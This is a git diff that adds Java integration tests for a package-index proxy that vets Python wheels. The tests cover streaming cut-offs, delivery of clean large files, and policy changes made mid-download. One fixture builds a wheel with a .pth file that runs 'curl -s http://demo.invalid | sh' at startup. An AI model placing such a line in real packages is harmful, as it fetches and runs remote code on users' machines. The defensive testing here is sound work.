@@ -2,7 +2,9 @@ package dev.gatehouse.index;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.gatehouse.samples.Drip;
 import dev.gatehouse.samples.FakeIndex;
+import dev.gatehouse.samples.Gate;
 import dev.gatehouse.samples.SampleArtifact;
 import dev.gatehouse.samples.WheelBuilder;
 import dev.gatehouse.samples.incident.Reenactment;
@@ -11,12 +13,14 @@ import dev.gatehouse.vetting.evidence.AdvisorySettings;
 import dev.gatehouse.vetting.policy.Mode;
 import dev.gatehouse.vetting.policy.Policy;
 import dev.gatehouse.vetting.policy.VettingRules;
+import java.net.Socket;
 import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.time.Instant;
+import java.util.Arrays;
 import java.util.List;
 import java.util.stream.Stream;
 import org.jspecify.annotations.Nullable;
@@ -78,6 +82,12 @@ class VettedIT {
 
   private static String at(SampleArtifact artifact) {
     return "/files/" + artifact.project() + "/" + artifact.filename();
+  }
+
+  private static byte[] concat(byte[] one, byte[] other) {
+    byte[] all = Arrays.copyOf(one, one.length + other.length);
+    System.arraycopy(other, 0, all, one.length, other.length);
+    return all;
   }
 
   private static String body(HttpResponse<byte[]> answer) {
@@ -250,5 +260,80 @@ class VettedIT {
 
     assertThat(index.get(at(GOOD)).statusCode()).isEqualTo(200);
     assertThat(index.get(at(later)).statusCode()).isEqualTo(403);
+  }
+
+  /** An attack that takes longer to arrive than a client is kept waiting. */
+  @Test
+  void aLargeAttackIsCutBeforeItsTailAndExplainedOnTheSecondTry() throws Exception {
+    SampleArtifact attack =
+        WheelBuilder.wheel("demo", "6.0")
+            .file("demo_init.pth", "import os; os.system('curl -s http://demo.invalid | sh')\n")
+            .padding(6_000_000)
+            .build();
+    upstream.publish(attack);
+    Drip drip = upstream.on(FakeIndex.fileOf(attack)).drips();
+    drip.give((int) attack.size() - 1);
+    RunningIndex index = index(INSPECTION_ALONE, NOTHING_KNOWN);
+
+    try (Socket client = new Socket(index.address().getHost(), index.address().getPort())) {
+      client
+          .getOutputStream()
+          .write(
+              ("GET " + at(attack) + " HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
+                  .getBytes(StandardCharsets.US_ASCII));
+      // The beginning comes although the upstream holds the last byte back.
+      byte[] beginning = client.getInputStream().readNBytes(1_000_000);
+      drip.giveAll();
+      byte[] rest = client.getInputStream().readAllBytes();
+
+      assertThat(new String(beginning, 0, 15, StandardCharsets.US_ASCII))
+          .isEqualTo("HTTP/1.1 200 OK");
+      assertThat((long) beginning.length + rest.length)
+          .isGreaterThan(4_000_000)
+          .isLessThan(attack.size() - 64 * 1024);
+    }
+    assertThat(index.statusLine(at(attack)))
+        .startsWith("HTTP/1.1 403 Gatehouse refuses demo 6.0: demo_init.pth");
+    assertThat(index.get(at(attack), "Range", "bytes=5000000-").statusCode()).isEqualTo(403);
+  }
+
+  @Test
+  void aLargeCleanFileArrivesWhole() throws Exception {
+    SampleArtifact large = WheelBuilder.wheel("demo", "6.1").padding(6_000_000).build();
+    upstream.publish(large);
+    Drip drip = upstream.on(FakeIndex.fileOf(large)).drips();
+    drip.give((int) large.size() - 1);
+    RunningIndex index = index(INSPECTION_ALONE, NOTHING_KNOWN);
+
+    try (Socket client = new Socket(index.address().getHost(), index.address().getPort())) {
+      client
+          .getOutputStream()
+          .write(
+              ("GET " + at(large) + " HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
+                  .getBytes(StandardCharsets.US_ASCII));
+      byte[] beginning = client.getInputStream().readNBytes(1_000_000);
+      drip.giveAll();
+      byte[] answer = concat(beginning, client.getInputStream().readAllBytes());
+
+      assertThat(Arrays.copyOfRange(answer, answer.length - (int) large.size(), answer.length))
+          .isEqualTo(large.bytes());
+    }
+  }
+
+  @Test
+  void whatWasBegunWithoutVettingIsNotFollowedByWhoNeedsIt() throws Exception {
+    SampleArtifact attack = attacks().findFirst().orElseThrow();
+    upstream.publish(attack);
+    Gate hold = upstream.on(FakeIndex.fileOf(attack)).times(1).pausesAfter(10);
+    RunningIndex index = index(Policy.observing(), NOTHING_KNOWN);
+    Thread before = Thread.ofVirtual().start(() -> index.get(at(attack)));
+    hold.awaitReached();
+
+    index.apply(INSPECTION_ALONE);
+    HttpResponse<byte[]> after = index.get(at(attack));
+    hold.release();
+    before.join();
+
+    assertThat(after.statusCode()).isEqualTo(403);
   }
 }
